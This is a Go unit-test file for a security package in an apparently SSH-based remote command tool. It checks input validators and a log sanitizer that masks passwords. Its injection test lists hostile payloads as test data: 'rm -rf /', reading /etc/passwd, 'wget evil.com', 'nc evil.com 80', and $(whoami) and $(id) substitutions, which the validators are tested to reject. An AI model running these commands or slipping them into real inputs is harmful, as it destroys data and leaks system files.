package security

import (
	"strings"
	"testing"
)

func TestValidateServerName(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid simple", "production", false},
		{"valid with numbers", "server1", false},
		{"valid with hyphens", "my-server", false},
		{"valid with underscores", "my_server", false},
		{"valid mixed case", "MyServer", false},
		{"valid single char", "a", false},
		{"empty", "", true},
		{"starts with hyphen", "-server", true},
		{"starts with underscore", "_server", true},
		{"special chars", "server;id", true},
		{"space", "my server", true},
		{"too long", strings.Repeat("a", 65), true},
		{"max length", strings.Repeat("a", 64), false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateServerName(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateServerName(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateUnixUser(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid simple", "deploy", false},
		{"valid with numbers", "user1", false},
		{"valid with underscore prefix", "_user", false},
		{"valid www-data", "www-data", false},
		{"empty", "", true},
		{"starts with number", "1user", true},
		{"uppercase", "User", true},
		{"special chars", "user;id", true},
		{"too long", strings.Repeat("a", 33), true},
		{"max length", strings.Repeat("a", 32), false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateUnixUser(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateUnixUser(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateHost(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"localhost", "localhost", false},
		{"fqdn", "prod.example.com", false},
		{"trailing dot", "prod.example.com.", false},
		{"ipv4", "192.168.1.10", false},
		{"ipv6", "::1", false},
		{"empty", "", true},
		{"with port", "example.com:22", true},
		{"underscore", "my_host", true},
		{"leading hyphen label", "-bad.example.com", true},
		{"empty label", "bad..example.com", true},
		{"injection attempt", "host;id", true},
		{"too long", strings.Repeat("a.", 127) + "aa", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateHost(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateHost(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidatePort(t *testing.T) {
	for _, port := range []int{0, 1, 22, 2222, 65535} {
		if err := ValidatePort(port); err != nil {
			t.Errorf("ValidatePort(%d) unexpected error: %v", port, err)
		}
	}
	for _, port := range []int{-1, 65536, 100000} {
		if err := ValidatePort(port); err == nil {
			t.Errorf("ValidatePort(%d) expected error", port)
		}
	}
}

func TestValidateCommand(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"simple", "uptime", false},
		{"pipeline", "ps aux | grep sshd", false},
		{"empty", "", true},
		{"whitespace", "   ", true},
		{"nul byte", "ls\x00-la", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateCommand(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateCommand(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateSudoPassword(t *testing.T) {
	tests := []struct {
		input   string
		wantErr bool
	}{
		{"secret", false},
		{"p@ss w0rd!", false},
		{"", false},
		{`with"quote`, true},
		{"back`tick", true},
		{"$(id)", true},
		{`back\slash`, true},
		{"new\nline", true},
	}

	for _, tt := range tests {
		err := ValidateSudoPassword(tt.input)
		if (err != nil) != tt.wantErr {
			t.Errorf("ValidateSudoPassword(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
		}
	}
}

func TestSanitizeCommandForLog(t *testing.T) {
	tests := []struct {
		name     string
		input    string
		contains string // substring that should NOT be present
		masked   bool   // true if the output should contain ****
	}{
		{
			"masks sudo password",
			`echo "hunter2" | sudo -S apt-get update`,
			"hunter2",
			true,
		},
		{
			"masks SSHRUN_PASSWORD",
			"SSHRUN_PASSWORD=topsecret sshrun exec prod uptime",
			"topsecret",
			true,
		},
		{
			"masks quoted PASSWORD",
			"env DB_PASSWORD='s3cr3t value' ./migrate",
			"s3cr3t",
			true,
		},
		{
			"masks SSHPASS",
			"SSHPASS=abc123 sshpass -e ssh host",
			"abc123",
			true,
		},
		{
			"no masking for safe commands",
			"systemctl status nginx",
			"",
			false,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := SanitizeCommandForLog(tt.input)
			if tt.masked && !strings.Contains(result, "****") {
				t.Errorf("expected masked output to contain '****', got %q", result)
			}
			if !tt.masked && result != tt.input {
				t.Errorf("expected %q unchanged, got %q", tt.input, result)
			}
			if tt.contains != "" && strings.Contains(result, tt.contains) {
				t.Errorf("sanitized output should not contain %q, got %q", tt.contains, result)
			}
		})
	}
}

func TestSanitizeKeepsSudoCommand(t *testing.T) {
	got := SanitizeCommandForLog(`echo "pw" | sudo -S systemctl restart nginx`)
	want := `echo "****" | sudo -S systemctl restart nginx`
	if got != want {
		t.Errorf("SanitizeCommandForLog() = %q, want %q", got, want)
	}
}

// Test injection attempts that could bypass validation
func TestInjectionAttempts(t *testing.T) {
	injectionPayloads := []string{
		"test;rm -rf /",
		"test && cat /etc/passwd",
		"test || wget evil.com",
		"test`id`",
		"test$(whoami)",
		"test\nmalicious",
		"test|nc evil.com 80",
		"test>/etc/passwd",
	}

	t.Run("ServerName blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateServerName(payload); err == nil {
				t.Errorf("ValidateServerName should reject: %q", payload)
			}
		}
	})

	t.Run("UnixUser blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateUnixUser(payload); err == nil {
				t.Errorf("ValidateUnixUser should reject: %q", payload)
			}
		}
	})

	t.Run("Host blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateHost(payload); err == nil {
				t.Errorf("ValidateHost should reject: %q", payload)
			}
		}
	})
}
